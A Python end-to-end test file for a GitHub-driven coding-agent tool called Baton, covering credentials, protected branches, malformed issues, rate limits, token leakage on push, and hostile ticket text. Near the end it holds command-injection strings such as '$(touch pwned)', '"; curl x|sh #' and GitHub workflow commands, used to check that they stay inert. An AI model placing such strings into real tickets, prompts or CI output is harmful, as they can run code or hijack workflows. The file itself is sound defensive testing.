"""More of GitHub mode end to end, against the fake GitHub through the real PyGithub, with real
git and real subprocess agents: other credentials (a personal token, a GitHub App), a protected
default branch, an issue that does not parse, a blocked ticket, many findings, the rate-limit
books, push credentials, and hostile text in a ticket."""

from __future__ import annotations

import base64
import http.server
import json
import os
import re
import subprocess
import sys
import textwrap
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from github import Auth, Github

from bot.cli import cli
from bot.issue_form import render_issue_body
from bot.tickets import Ticket, TicketFiles
from tests.e2e.github_support import calls, checkout, github_env, issue
from tests.fakes.github import FakeGitHub, app_private_key
from tests.warm_baton import run_baton


def _env(fake: FakeGitHub, work: Path, **changes: str | None) -> dict[str, str | None]:
    """The environment of `baton run` in GitHub mode; a change to None unsets the variable."""
    env: dict[str, str | None] = {
        **github_env(fake, AGENT_LOG=str(work.parent / "agent.log")),
        "BATON_GITHUB_APP_ID": None,
        "BATON_GITHUB_APP_PRIVATE_KEY": None,
        "BATON_GITHUB_APP_INSTALLATION_ID": None,
        "SLACK_BOT_TOKEN": None,
        "SLACK_WEBHOOK_URL": None,
    }
    env.update(changes)
    return env


def _run(fake: FakeGitHub, work: Path, *args: str, **changes: str | None) -> Result:
    return CliRunner().invoke(
        cli, ["run", "--repo", str(work), *args], env=_env(fake, work, **changes)
    )


def _use_agent(fake: FakeGitHub, tmp_path: Path, source: str, **validation: Any) -> None:
    """Commit a config whose agent runs `source` (Python) to the default branch."""
    agent = tmp_path / "custom_agent.py"
    agent.write_text(textwrap.dedent(source))
    config = {
        "sandbox": "off",  # the scripted agents write outside the working copy
        "agent": {
            "kind": "command",
            "command": f"{sys.executable} {agent} {{prompt_file}} {{session_id}}",
            "env": ["AGENT_LOG", "PROMPT_COPIES"],  # where the scripted agents write
        },
        "validation": {"test_command": "test -d work", **validation},
    }
    fake.commit("main", {".github/baton.yml": json.dumps(config)}, "Use another agent")


def _human(fake: FakeGitHub) -> Any:
    client = Github(base_url=fake.url, auth=Auth.Token(fake.admin_token), retry=None, lazy=True)
    return client.get_repo(fake.full_name)


def _own_comments(fake: FakeGitHub, number: int, login: str | None = None) -> list[Any]:
    return [c for c in fake.comments_on(number) if c.user == (login or fake.bot_login)]


# -- credentials ------------------------------------------------------------------------------


def test_a_personal_token_reports_with_commit_statuses(github: FakeGitHub, tmp_path: Path) -> None:
    first = issue(github, "Scaffold", "work/scaffold.txt")
    second = issue(github, "Build on it", "work/build.txt", [f"#{first}"])
    work = checkout(github, tmp_path)
    who = {"GITHUB_TOKEN": github.admin_token, "BATON_BOT_LOGIN": github.admin_login}

    result = _run(github, work, **who)
    assert result.exit_code == 0, result.output
    for number in (first, second):
        assert "baton:done" in github.labels_of(number)
    assert github.check_runs() == [], "a personal token cannot create check runs"
    refused = [e for e in github.exchanges if e.method == "POST" and e.path.endswith("/check-runs")]
    assert [e.status for e in refused] == [403], "asked once, then commit statuses only"
    statuses = github.statuses()
    assert sorted(s.context for s in statuses) == [f"baton/#{first}", f"baton/#{second}"]
    assert {s.state for s in statuses} == {"success"}
    state = json.loads(github.read_file("state.json", "baton/state") or "{}")
    tickets = state["chains"]["sprint-1"]["tickets"]
    for number in (first, second):
        validated = tickets[f"#{number}"]["attempts"][-1]["validation"]["commit"]
        assert [s.context for s in github.statuses(validated)] == [f"baton/#{number}"]

    again = _run(github, work, **who)
    assert again.exit_code == 0, again.output
    assert len(github.statuses()) == 2, "a status is written once per validated attempt"


def test_a_github_app_authenticates_through_its_installation(
    github: FakeGitHub, tmp_path: Path
) -> None:
    first = issue(github, "Scaffold", "work/scaffold.txt")
    second = issue(github, "Build on it", "work/build.txt", [f"#{first}"])
    work = checkout(github, tmp_path)
    app = {
        "GITHUB_TOKEN": None,
        "BATON_GITHUB_APP_ID": str(github.app_id),
        "BATON_GITHUB_APP_PRIVATE_KEY": app_private_key(),
        "BATON_GITHUB_APP_INSTALLATION_ID": str(github.installation_id),
    }

    result = _run(github, work, **app)
    assert result.exit_code == 0, result.output
    minted = [
        r
        for r in github.requests
        if r.method == "POST"
        and r.path == f"/app/installations/{github.installation_id}/access_tokens"
    ]
    assert [r.status for r in minted] == [201], "one installation token for the whole run"
    assert not [r for r in github.requests if r.status == 401]
    for number in (first, second):
        assert "baton:done" in github.labels_of(number)
        assert len(_own_comments(github, number)) == 1, "written as the app's bot"
    runs = github.check_runs()
    assert len(runs) == 2, "an installation token may create check runs"
    assert {r.conclusion for r in runs} == {"success"}
    (pr,) = github.pulls()
    assert pr.user == github.bot_login


def test_missing_credentials_are_one_line_with_the_fix(github: FakeGitHub, tmp_path: Path) -> None:
    issue(github, "Scaffold", "work/scaffold.txt")
    work = checkout(github, tmp_path)
    result = _run(github, work, GITHUB_TOKEN=None)
    assert result.exit_code != 0
    assert "Traceback" not in result.output
    assert "no GitHub credentials" in result.output
    assert "BATON_GITHUB_APP_INSTALLATION_ID" in result.output
    assert calls(work) == []


# -- a protected default branch ----------------------------------------------------------------


def test_a_protected_default_branch_gets_the_knowledge_as_a_pull_request(
    github: FakeGitHub, tmp_path: Path
) -> None:
    number = issue(github, "Scaffold", "work/scaffold.txt")
    github.protect_branch("main")
    main_before = github.branch_sha("main")
    work = checkout(github, tmp_path)

    result = _run(github, work)
    assert result.exit_code == 0, result.output
    assert "baton:done" in github.labels_of(number)
    assert github.branch_sha("main") == main_before, "main is untouched"
    by_head = {p.pull.head_ref if p.pull else None: p for p in github.pulls()}
    assert set(by_head) == {"baton/sprint-1", "baton/knowledge"}, by_head
    knowledge = by_head["baton/knowledge"]
    assert knowledge.pull is not None
    assert knowledge.pull.base_ref == "main"
    status = json.loads(github.read_file("knowledge/status.json", "baton/knowledge") or "{}")
    assert status["chains"]["sprint-1"]["tickets"][0]["status"] == "passed"
    assert github.read_file("knowledge/status.json", "main") is None

    again = _run(github, work)
    assert again.exit_code == 0, again.output
    assert len(github.pulls()) == 2, "the knowledge pull request is kept, not made again"
    assert github.branch_sha("main") == main_before


# -- an issue that does not parse --------------------------------------------------------------


def test_an_issue_without_a_goal_is_answered_once_and_worked_once_fixed_and_labelled_again(
    github: FakeGitHub, tmp_path: Path
) -> None:
    good = render_issue_body(
        Ticket(goal="Create work/fixed.txt.", files=TicketFiles(create=["work/fixed.txt"]))
    )
    broken = re.sub(r"### Goal\n\n.*?\n\n", "", good, count=1, flags=re.S)
    assert "### Goal" not in broken
    number = github.add_issue(
        "Half a ticket", broken, labels=["ready-for-agent"], milestone="Sprint 1"
    )
    work = checkout(github, tmp_path)

    for _ in range(2):  # the second run does not answer again
        result = _run(github, work)
        assert result.exit_code == 0, result.output
        assert calls(work) == [], "nothing was dispatched"
        (answer,) = _own_comments(github, number)
        assert "Goal" in answer.body
        assert "Edit the issue" in answer.body
        assert "apply the `ready-for-agent` label again" in answer.body
        assert github.labels_of(number) == ["baton:invalid"], "the trigger label is taken off"
    assert github.pulls() == []

    _human(github).get_issue(number).edit(body=good)
    edited = _run(github, work)
    assert edited.exit_code == 0, edited.output
    assert calls(work) == [], "an edit alone starts nothing"

    _human(github).get_issue(number).add_to_labels("ready-for-agent")
    fixed = _run(github, work)
    assert fixed.exit_code == 0, fixed.output
    labels = github.labels_of(number)
    assert "baton:invalid" not in labels
    assert "baton:done" in labels
    assert len(calls(work)) == 1
    assert github.read_file("work/fixed.txt", "baton/sprint-1") is not None


# -- a ticket that cannot be done ------------------------------------------------------------


def test_a_failing_agent_blocks_the_issue_and_its_dependent(
    github: FakeGitHub, tmp_path: Path
) -> None:
    _use_agent(
        github,
        tmp_path,
        """\
        import sys
        print("model quota exhausted", file=sys.stderr)
        sys.exit(3)
        """,
    )
    first = issue(github, "Scaffold", "work/scaffold.txt")
    second = issue(github, "Build on it", "work/build.txt", [f"#{first}"])
    work = checkout(github, tmp_path)

    result = _run(github, work)
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    for number in (first, second):
        labels = set(github.labels_of(number))
        assert "baton:blocked" in labels, (number, labels)
        assert not labels & {"baton:queued", "baton:running", "baton:done"}
    (status,) = _own_comments(github, first)
    assert "this ticket is **blocked**" in status.body
    reason = re.search(r"^Reason: (.*)$", status.body, re.M)
    assert reason is not None, status.body
    assert "agent failed" in reason.group(1)
    assert "exit 3" in reason.group(1)
    (dependent,) = _own_comments(github, second)
    assert "this ticket is **skipped**" in dependent.body
    assert f"#{first}" in dependent.body
    state = json.loads(github.read_file("state.json", "baton/state") or "{}")
    assert state["chains"]["sprint-1"]["tickets"][f"#{second}"]["attempts"] == []


# -- many findings -----------------------------------------------------------------------------

SPRAWLING_AGENT = """\
import json, pathlib, re, sys
prompt = pathlib.Path(sys.argv[1]).read_text()
path = re.search(r"### Files to create\\n\\n- (\\S+)", prompt)
if path:
    target = pathlib.Path(path.group(1))
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text("done\\n")
    extra = pathlib.Path("sprawl")
    extra.mkdir(exist_ok=True)
    for i in range(60):
        (extra / f"file{i:02}.txt").write_text(f"not asked for {i}\\n")
print(json.dumps({"session_id": sys.argv[2], "is_error": False, "result": "wrote it"}))
"""


def test_more_than_fifty_findings_reach_the_check_run_in_batches(
    github: FakeGitHub, tmp_path: Path
) -> None:
    _use_agent(github, tmp_path, SPRAWLING_AGENT, max_corrections=0)
    number = issue(github, "Scaffold", "work/scaffold.txt")
    work = checkout(github, tmp_path)

    result = _run(github, work)
    assert result.exit_code == 1, result.output  # the sprawl is never reverted: blocked
    assert "baton:blocked" in github.labels_of(number)
    writes = [
        e
        for e in github.exchanges
        if e.path.startswith(f"/repos/{github.full_name}/check-runs")
        and e.method in ("POST", "PATCH")
    ]
    assert writes, "check runs were written"
    assert all(e.status in (200, 201) for e in writes), [(e.method, e.status) for e in writes]
    sizes = [len(json.loads(e.request_body)["output"]["annotations"]) for e in writes]
    assert max(sizes) <= 50, sizes
    assert sum(sizes) == sum(len(r.annotations) for r in github.check_runs())
    runs = github.check_runs()
    assert runs
    for run in runs:
        paths = [a["path"] for a in run.annotations]
        assert len(paths) >= 60, len(paths)
        assert {f"sprawl/file{i:02}.txt" for i in range(60)} <= set(paths)
        assert len(paths) == len(set(paths)), "each finding once"
        assert run.conclusion == "failure"
    # The annotations endpoint serves them all, too.
    listed = list(_human(github).get_check_run(runs[0].id).get_annotations())
    assert len(listed) == len(runs[0].annotations)


# -- the rate-limit books ----------------------------------------------------------------------


def test_the_clients_request_count_matches_the_servers(github: FakeGitHub, tmp_path: Path) -> None:
    first = issue(github, "Scaffold", "work/scaffold.txt")
    issue(github, "Build on it", "work/build.txt", [f"#{first}"])
    work = checkout(github, tmp_path)

    for run in range(2):  # a working run, then a run with nothing to do (its polls answer 304)
        github.reset_counters()
        if run == 0:  # answers that cost a unit (a retried 500, a secondary limit) and one that
            # does not (a refusal for the primary limit: 403 with nothing remaining)
            github.fail_next("server_error", method="GET", path="/repos/*/issues")
            github.fail_next(
                "secondary_rate_limit", method="POST", path="/repos/*/issues/*/comments"
            )
            github.fail_next("primary_rate_limit", method="POST", path="/repos/*/check-runs")
        result = _run(github, work, "--stats")
        assert result.exit_code == 0, result.output
        line = re.search(
            r"GitHub: (\d+) requests, (\d+) rate-limit units \((\d+) answered 304, (\d+) writes\)",
            result.output,
        )
        assert line is not None, result.output
        requests, units, not_modified, writes = map(int, line.groups())
        served = github.requests
        assert requests == len(served), _routes(served)
        assert units == github.units
        assert not_modified == sum(r.status == 304 for r in served)
        assert writes == sum(r.method != "GET" for r in served)
        if run == 0:
            assert {500, 403} <= {r.status for r in served}, _routes(served)


def _routes(served: list[Any]) -> list[str]:
    return [f"{r.method} {r.path} {r.status}" for r in served]


# -- push credentials --------------------------------------------------------------------------


class _GitServer(http.server.ThreadingHTTPServer):
    """git's smart HTTP over the fake's bare repository (`git http-backend`), which records every
    request's `Authorization` header and, as GitHub does, takes only a known token as the basic
    password (or, with `refuse`, takes nothing)."""

    def __init__(self, fake: FakeGitHub, *, refuse: bool = False) -> None:
        super().__init__(("127.0.0.1", 0), _GitHandler)
        self.fake = fake
        self.refuse = refuse
        self.seen: list[str] = []

    @property
    def remote(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}/{self.fake.git_dir.name}"

    def known(self, header: str) -> bool:
        scheme, _, encoded = header.partition(" ")
        if scheme.lower() != "basic":
            return False
        user, _, password = base64.b64decode(encoded).decode().partition(":")
        world = self.fake.state()
        with world.lock:
            return user == "x-access-token" and password in world.tokens


class _GitHandler(http.server.BaseHTTPRequestHandler):
    server: _GitServer

    def log_message(self, format: str, *args: Any) -> None:
        del format, args

    def do_GET(self) -> None:
        self._serve()

    def do_POST(self) -> None:
        self._serve()

    def _body(self) -> bytes:
        if self.headers.get("Transfer-Encoding", "").lower() != "chunked":
            return self.rfile.read(int(self.headers.get("Content-Length") or 0))
        body = b""
        while size := int(self.rfile.readline().strip() or b"0", 16):
            body += self.rfile.read(size)
            self.rfile.readline()
        self.rfile.readline()
        return body

    def _serve(self) -> None:
        header = self.headers.get("Authorization", "")
        self.server.seen.append(header)
        body = self._body()
        if self.server.refuse or not self.server.known(header):
            self.send_response(403 if self.server.refuse else 401)
            if not self.server.refuse:
                self.send_header("WWW-Authenticate", 'Basic realm="GitHub"')
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        path, _, query = self.path.partition("?")
        env = {
            "PATH": os.environ.get("PATH", ""),
            "GIT_CONFIG_NOSYSTEM": "1",
            "GIT_PROJECT_ROOT": str(self.server.fake.git_dir.parent),
            "GIT_HTTP_EXPORT_ALL": "1",
            "REQUEST_METHOD": self.command,
            "PATH_INFO": path,
            "QUERY_STRING": query,
            "CONTENT_TYPE": self.headers.get("Content-Type", ""),
            "CONTENT_LENGTH": str(len(body)),
            "REMOTE_USER": "x-access-token",
            "REMOTE_ADDR": "127.0.0.1",
            "HTTP_GIT_PROTOCOL": self.headers.get("Git-Protocol", ""),
            "HTTP_CONTENT_ENCODING": self.headers.get("Content-Encoding", ""),
        }
        out = subprocess.run(
            ["git", "http-backend"], input=body, env=env, capture_output=True, check=True
        ).stdout
        head, _, payload = out.partition(b"\r\n\r\n")
        headers = [line.split(":", 1) for line in head.decode().splitlines() if ":" in line]
        status = next((int(v.split()[0]) for k, v in headers if k.lower() == "status"), 200)
        self.send_response(status)
        for name, value in headers:
            if name.lower() != "status":
                self.send_header(name, value.strip())
        self.send_header("Content-Length", str(len(payload)))
        self.end_headers()
        self.wfile.write(payload)


@pytest.fixture
def git_server(github: FakeGitHub) -> Iterator[_GitServer]:
    server = _GitServer(github)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    thread.join()


def _basic(token: str) -> str:
    return "basic " + base64.b64encode(f"x-access-token:{token}".encode()).decode()


def _leaks(work: Path, result: Result, token: str) -> list[str]:
    """Where the token (or its basic-auth form) shows after a run: the checkout's git config,
    `git remote -v`, Baton's output, or the checkout's state directory."""
    secrets = (token, _basic(token).split()[1])
    remotes = subprocess.run(
        ["git", "-C", str(work), "remote", "-v"], capture_output=True, text=True, check=True
    ).stdout
    places = {
        ".git/config": (work / ".git" / "config").read_text(),
        "git remote -v": remotes,
        "output": result.output,
    }
    places |= {
        str(p.relative_to(work)): p.read_text(errors="replace")
        for p in (work / ".baton").rglob("*")
        if p.is_file()
    }
    return [where for where, text in places.items() if any(s in text for s in secrets)]


def test_the_token_travels_as_a_basic_auth_header_and_stays_nowhere(
    github: FakeGitHub, tmp_path: Path, git_server: _GitServer
) -> None:
    number = issue(github, "Scaffold", "work/scaffold.txt")
    work = checkout(github, tmp_path)

    result = _run(github, work, BATON_GIT_REMOTE=git_server.remote)
    assert result.exit_code == 0, result.output
    assert "baton:done" in github.labels_of(number)
    assert git_server.seen, "git talked to the server"
    assert set(git_server.seen) == {_basic(github.app_token)}, git_server.seen
    head = subprocess.run(
        ["git", "-C", str(work), "rev-parse", "baton/sprint-1"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.strip()
    assert github.branch_sha("baton/sprint-1") == head, "the chain's branch arrived over HTTP"
    assert _leaks(work, result, github.app_token) == []


def test_a_github_app_pushes_with_its_installation_token(
    github: FakeGitHub, tmp_path: Path, git_server: _GitServer
) -> None:
    number = issue(github, "Scaffold", "work/scaffold.txt")
    work = checkout(github, tmp_path)
    result = _run(
        github,
        work,
        GITHUB_TOKEN=None,
        BATON_GITHUB_APP_ID=str(github.app_id),
        BATON_GITHUB_APP_PRIVATE_KEY=app_private_key(),
        BATON_GITHUB_APP_INSTALLATION_ID=str(github.installation_id),
        BATON_GIT_REMOTE=git_server.remote,
    )
    assert result.exit_code == 0, result.output
    assert "baton:done" in github.labels_of(number)
    minted = [t for t in github.state().tokens if t.startswith("ghs_") and t != github.app_token]
    assert len(minted) == 1
    assert set(git_server.seen) == {_basic(minted[0])}, git_server.seen
    assert github.branch_sha("baton/sprint-1") is not None
    assert _leaks(work, result, minted[0]) == []


def test_a_refused_push_is_one_line_without_the_token(
    github: FakeGitHub, tmp_path: Path, git_server: _GitServer
) -> None:
    issue(github, "Scaffold", "work/scaffold.txt")
    work = checkout(github, tmp_path)
    git_server.refuse = True

    result = _run(github, work, BATON_GIT_REMOTE=git_server.remote)
    assert result.exit_code != 0
    assert "Traceback" not in result.output
    errors = [line for line in result.output.splitlines() if line.startswith("error:")]
    assert len(errors) == 1, result.output
    assert "git push" in errors[0]
    assert "403" in errors[0]
    assert set(git_server.seen) == {_basic(github.app_token)}
    assert _leaks(work, result, github.app_token) == []
    assert calls(work) == [], "nothing is dispatched before the branch is pushed"


# -- hostile text in a ticket ------------------------------------------------------------------

HOSTILE_TITLE = '::stop-commands::abc $(touch pwned) `touch pwned2` "; curl x|sh #'
HOSTILE_GOAL = textwrap.dedent(
    """\
    Create work/hostile.txt. $(touch pwned) and `touch pwned2` and "; curl x|sh #
    ::add-mask::secret
    ::stop-commands::abc
    EOF
    '; touch pwned #
    ::error file=x::a command"""
)
HOSTILE_CONTEXT = "$(touch pwned)\n::warning::from the context\nEOF"

HOSTILE_AGENT = """\
import json, os, pathlib, shutil, sys
prompt = pathlib.Path(sys.argv[1])
copies = pathlib.Path(os.environ["PROMPT_COPIES"])
copies.mkdir(exist_ok=True)
shutil.copy(prompt, copies / f"{len(list(copies.iterdir())):02}.md")
target = pathlib.Path("work/hostile.txt")
target.parent.mkdir(parents=True, exist_ok=True)
target.write_text("done\\n")
said = "done\\n::add-mask::from-the-agent\\n$(touch pwned)"
if "work/broken.txt" in prompt.read_text():
    print("quota\\n::add-mask::from-stderr\\n  ::stop-commands::abc", file=sys.stderr)
    sys.exit(3)
print(json.dumps({"session_id": sys.argv[2], "is_error": False, "result": said}))
"""


def test_shell_and_workflow_commands_in_a_ticket_stay_text(
    github: FakeGitHub, tmp_path: Path
) -> None:
    _use_agent(github, tmp_path, HOSTILE_AGENT)
    ticket = Ticket(
        goal=HOSTILE_GOAL,
        context=HOSTILE_CONTEXT,
        files=TicketFiles(create=["work/hostile.txt"]),
    )
    number = github.add_issue(
        HOSTILE_TITLE, render_issue_body(ticket), labels=["ready-for-agent"], milestone="Sprint 1"
    )
    broken = Ticket(goal="Create work/broken.txt.", files=TicketFiles(create=["work/broken.txt"]))
    other = github.add_issue(
        "Break", render_issue_body(broken), labels=["ready-for-agent"], milestone="Sprint 1"
    )
    work = checkout(github, tmp_path)
    copies = tmp_path / "prompts"
    env = {k: v for k, v in _env(github, work).items() if v is not None}
    env |= {"PROMPT_COPIES": str(copies)}
    result = run_baton(
        ["run", "--repo", str(work), "--stats"],
        cwd=tmp_path,
        env={**_base_env(), **env},
        timeout=120,
    )
    assert result.returncode == 1, result.stdout + result.stderr
    assert "baton:done" in github.labels_of(number)
    assert "baton:blocked" in github.labels_of(other)
    assert "agent failed: exit 3" in result.stderr, "the agent's failure is reported"

    planted = list(tmp_path.rglob("pwned*")) + [
        p for p in (Path.cwd() / "pwned", Path.cwd() / "pwned2") if p.exists()
    ]
    assert planted == [], planted
    for stream in (result.stdout, result.stderr):
        commands = [line for line in stream.splitlines() if line.lstrip().startswith("::")]
        assert commands == [], commands

    prompt = sorted(copies.iterdir())[0].read_text()
    assert prompt.startswith(f"# Baton · launch · ticket #{number}")
    fenced = re.search(r"^(`{3,})ticket\n(.*?)\n\1$", prompt, re.S | re.M)
    assert fenced is not None, prompt
    assert HOSTILE_GOAL in fenced.group(2)
    assert HOSTILE_CONTEXT in fenced.group(2)
    assert HOSTILE_TITLE in prompt


def _base_env() -> dict[str, str]:
    """The test process's environment without anything GitHub- or Baton-specific."""
    return {
        k: v
        for k, v in os.environ.items()
        if not k.startswith(("GITHUB_", "BATON_", "SLACK_", "CURSOR_")) and k != "CI"
    }


def test_text_that_looks_like_console_markup_is_printed_as_text(
    github: FakeGitHub, tmp_path: Path
) -> None:
    _use_agent(
        github,
        tmp_path,
        """\
        import sys
        print("[bold]quota[/] exhausted [/]", file=sys.stderr)
        sys.exit(3)
        """,
    )
    issue(github, "Scaffold", "work/scaffold.txt")
    work = checkout(github, tmp_path)
    env = {k: v for k, v in _env(github, work).items() if v is not None}
    result = run_baton(
        ["run", "--repo", str(work)], cwd=tmp_path, env={**_base_env(), **env}, timeout=120
    )
    assert "Traceback" not in result.stderr, result.stderr
    assert result.returncode == 1
    assert "[bold]quota[/] exhausted [/]" in result.stderr
